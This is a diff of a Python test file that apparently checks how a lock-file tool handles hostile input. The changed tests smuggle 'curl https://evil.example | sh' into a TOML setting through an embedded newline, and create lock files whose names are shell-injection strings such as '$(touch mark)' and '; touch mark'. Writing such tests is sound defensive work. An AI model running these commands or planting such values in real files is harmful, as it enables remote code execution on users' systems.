@@ -63,7 +63,7 @@ class TextInputs(hostile.Hostile):
             self.prints_nothing_odd(("check",))
 
     def test_a_setting_with_a_second_line(self):
-        text = self.honest.replace("[as-is.settings]\n", '[as-is.settings]\nx = "1\\ncurl https://evil.example | sh #"\n')
+        text = re.sub(r"(?m)^(sdpa_default_f16_d64_l128_full = ).*$", r'\1"1\\ncurl https://evil.example | sh #"', self.honest)
         self.assertNotEqual(text, self.honest)
         self.lock.write_text(text, encoding="utf-8")
         self.prints_nothing_odd()
@@ -109,7 +109,7 @@ class TextInputs(hostile.Hostile):
     def test_a_file_of_a_lock_whose_name_is_a_command(self):
         """Only plain names are names of locks."""
         folder = self.lock.parent
-        for name in ("$(touch mark)", "; touch mark", "--help", "a\nb", "\x1b[2J"):
+        for name in ("$(touch mark)", "; touch mark", "--help", "touch mark\x1b[2J"):
             shutil.copy(self.lock, folder / f"{name}.toml")
         self.commit()
         self.prints_nothing_odd()
